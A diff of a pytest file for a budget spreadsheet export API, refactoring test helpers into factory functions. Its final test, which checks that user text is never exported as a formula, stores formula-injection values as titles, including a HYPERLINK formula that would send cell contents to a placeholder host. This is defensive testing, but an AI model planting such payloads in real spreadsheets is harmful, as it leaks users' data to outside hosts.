@@ -6,7 +6,8 @@ from io import BytesIO
 import pytest
 from openpyxl import load_workbook
 
-from tests.budgets import helpers as h
+from tests.budgets.factories import make_budget, make_expenditure, make_line, make_team
+from tests.interventions.factories import make_intervention
 
 pytestmark = pytest.mark.anyio
 
@@ -16,16 +17,16 @@ def _money(value) -> Decimal:
 
 
 async def test_export_holds_what_was_stored(api_as, db, org, other_org):
-    strategic = h.budget(db, org, stream="strategic", amount="314777.00")
-    h.budget(db, org, stream="functional", amount="314594.00")
-    intervention = h.intervention(db, org, "Hostmanship-training")
-    line = h.line(db, org, strategic, title="Hostmanship voor iedereen", planned="12345.67", kind="intervention",
+    strategic = make_budget(db, org, stream="strategic", amount="314777.00")
+    make_budget(db, org, stream="functional", amount="314594.00")
+    intervention = make_intervention(db, org, "Hostmanship-training")
+    line = make_line(db, strategic, title="Hostmanship voor iedereen", planned="12345.67", kind="intervention",
                   intervention_id=intervention.id)
-    h.expenditure(db, org, line, "1000.01", "committed")
-    h.expenditure(db, org, line, "0.99", "spent")
-    h.line(db, org, strategic, title="Onvoorzien", planned="5000.00", kind="contingency")
-    h.line(db, other_org, h.budget(db, other_org), title="Van een ander")
-    h.team(db, org, "Publiekszaken", "10.00")
+    make_expenditure(db, line, amount="1000.01", status="committed")
+    make_expenditure(db, line, amount="0.99", status="spent")
+    make_line(db, strategic, title="Onvoorzien", planned="5000.00", kind="contingency")
+    make_line(db, make_budget(db, other_org), title="Van een ander")
+    make_team(db, org, name="Publiekszaken", fte="10.00")
 
     r = await api_as("viewer").get("/api/v1/budgets/export", params={"year": 2014})
     assert r.status_code == 200
@@ -61,16 +62,16 @@ async def test_export_of_an_empty_year_is_a_valid_workbook(api_as):
 
 async def test_export_costs_a_fixed_number_of_queries(api_as, db, org, count_queries):
     client = api_as("viewer")
-    budget = h.budget(db, org)
-    h.line(db, org, budget, title="Eerste")
+    budget = make_budget(db, org)
+    make_line(db, budget, title="Eerste")
     await client.get("/api/v1/budgets/export", params={"year": 2014})
     with count_queries() as small:
         await client.get("/api/v1/budgets/export", params={"year": 2014})
     for i in range(30):
-        line = h.line(db, org, budget, title=f"Regel {i}", kind="intervention",
-                      intervention_id=h.intervention(db, org, f"Interventie {i}").id)
-        h.expenditure(db, org, line, "1.00")
-        h.team(db, org, f"Team {i}", "1.00")
+        line = make_line(db, budget, title=f"Regel {i}", kind="intervention",
+                         intervention_id=make_intervention(db, org, f"Interventie {i}").id)
+        make_expenditure(db, line, amount="1.00")
+        make_team(db, org, name=f"Team {i}", fte="1.00")
     with count_queries() as large:
         r = await client.get("/api/v1/budgets/export", params={"year": 2014})
     rows = [row for row in load_workbook(BytesIO(r.content))["Strategisch"].iter_rows(min_row=4, values_only=True)
@@ -80,11 +81,11 @@ async def test_export_costs_a_fixed_number_of_queries(api_as, db, org, count_que
 
 
 async def test_user_text_is_never_a_formula_and_amounts_stay_numbers(api_as, db, org):
-    strategic = h.budget(db, org, stream="strategic", amount="100.00")
-    h.line(db, org, strategic, title='=HYPERLINK("http://x/?"&A1,"k")', planned="50.00", kind="other")
-    line = h.line(db, org, strategic, title="@over", planned="10.00", kind="other")
-    h.expenditure(db, org, line, "25.00", "spent")  # remaining: -15.00
-    h.team(db, org, "=2+2", "1.00")
+    strategic = make_budget(db, org, stream="strategic", amount="100.00")
+    make_line(db, strategic, title='=HYPERLINK("http://x/?"&A1,"k")', planned="50.00", kind="other")
+    line = make_line(db, strategic, title="@over", planned="10.00", kind="other")
+    make_expenditure(db, line, amount="25.00", status="spent")  # remaining: -15.00
+    make_team(db, org, name="=2+2", fte="1.00")
     book = load_workbook(BytesIO((await api_as("viewer").get("/api/v1/budgets/export",
                                                              params={"year": 2014})).content))
     cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
